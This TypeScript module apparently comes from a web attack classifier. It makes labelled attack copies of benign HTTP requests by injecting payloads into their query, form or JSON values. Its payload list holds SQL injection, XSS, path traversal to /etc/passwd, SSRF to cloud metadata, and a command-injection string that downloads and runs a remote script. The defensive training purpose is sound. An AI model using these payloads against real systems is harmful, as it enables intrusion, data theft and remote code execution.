/**
 * Contrasts for a correction: when a tenant uploads benign requests only (its false positives), the head
 * must learn what makes *those* requests benign, not that their endpoint, parameters or client are. Each
 * uploaded request is copied with a classic attack payload in one of its own parameter values; the copies
 * are fitted as attacks beside the upload (anchors), so the residual cannot lower what a request and an attack
 * on it share, only what the request's own values carry.
 *
 * Pure record manipulation: the caller featurises and embeds the copies as it does the upload.
 *
 * @module
 */
import type { RequestRecord } from "../record/record.ts";

/** Generic payloads of the common families (hand-written, no data set). */
export const CONTRAST_PAYLOADS: readonly string[] = Object.freeze([
  "1' OR '1'='1' -- ",
  "1 UNION SELECT username, password FROM users--",
  "<script>alert(document.cookie)</script>",
  '"><img src=x onerror=alert(1)>',
  "../../../../etc/passwd",
  "; cat /etc/passwd",
  "$(curl http://203.0.113.7/x|sh)",
  "{{7*7}}${7*7}",
  "1 AND SLEEP(5)-- ",
  "1; WAITFOR DELAY '0:0:5'--",
  "admin'-- ",
  "<svg onload=alert(1)>",
  "javascript:alert(1)",
  "..%2f..%2f..%2f..%2fetc%2fpasswd",
  "| id",
  "http://169.254.169.254/latest/meta-data/",
]);

/** Contrasts made per uploaded request, and in all. */
export const CONTRASTS_PER_RECORD = 4;
export const MAX_CONTRASTS = 128;

/**
 * Attack copies of benign requests: each request's first few contrasts, a payload in place of one of its
 * query, form or JSON values (appended as a query parameter when it has none). Deterministic.
 *
 * @param records The upload's benign requests.
 * @param perRecord Copies per request.
 * @param max Copies in all.
 * @returns Records labelled 1.
 */
export function contrastRecords(
  records: readonly RequestRecord[],
  perRecord = CONTRASTS_PER_RECORD,
  max = MAX_CONTRASTS,
): RequestRecord[] {
  const out: RequestRecord[] = [];
  const per = Math.max(1, Math.min(perRecord, Math.floor(max / Math.max(1, records.length))));
  for (let i = 0; i < records.length && out.length < max; i++) {
    for (let k = 0; k < per && out.length < max; k++) {
      const payload = CONTRAST_PAYLOADS[(i * per + k) % CONTRAST_PAYLOADS.length];
      out.push({ ...inject(records[i], payload, i + k), label: 1 });
    }
  }
  return out;
}

/** The record with `payload` in one of its values (the `which`-th, cycling), or appended to its query. */
function inject(rec: RequestRecord, payload: string, which: number): RequestRecord {
  const q = rec.url.indexOf("?");
  const hash = rec.url.indexOf("#");
  const end = hash < 0 ? rec.url.length : hash;
  if (q >= 0 && q < end - 1) {
    const pairs = rec.url.slice(q + 1, end).split("&");
    const j = which % pairs.length, eq = pairs[j].indexOf("=");
    const key = eq < 0 ? pairs[j] : pairs[j].slice(0, eq);
    pairs[j] = `${key}=${encodeURIComponent(payload)}`;
    return { ...rec, url: rec.url.slice(0, q + 1) + pairs.join("&") };
  }
  const body = rec.body ?? "";
  const type = Object.entries(rec.headers ?? {}).find(([k]) => k.toLowerCase() === "content-type")?.[1] ?? "";
  if (body.length > 0 && type.includes("json")) {
    try {
      const v = JSON.parse(body);
      if (v !== null && typeof v === "object" && !Array.isArray(v)) {
        const keys = Object.keys(v).filter((k) => typeof v[k] === "string" || typeof v[k] === "number");
        if (keys.length > 0) {
          return { ...rec, body: JSON.stringify({ ...v, [keys[which % keys.length]]: payload }) };
        }
      }
    } catch { /* not JSON after all: fall through */ }
  }
  if (body.length > 0 && type.includes("x-www-form-urlencoded")) {
    const pairs = body.split("&");
    const j = which % pairs.length, eq = pairs[j].indexOf("=");
    pairs[j] = `${eq < 0 ? pairs[j] : pairs[j].slice(0, eq)}=${encodeURIComponent(payload)}`;
    return { ...rec, body: pairs.join("&") };
  }
  const base = rec.url.slice(0, end);
  return { ...rec, url: `${base}${q >= 0 ? "" : "?"}id=${encodeURIComponent(payload)}` };
}
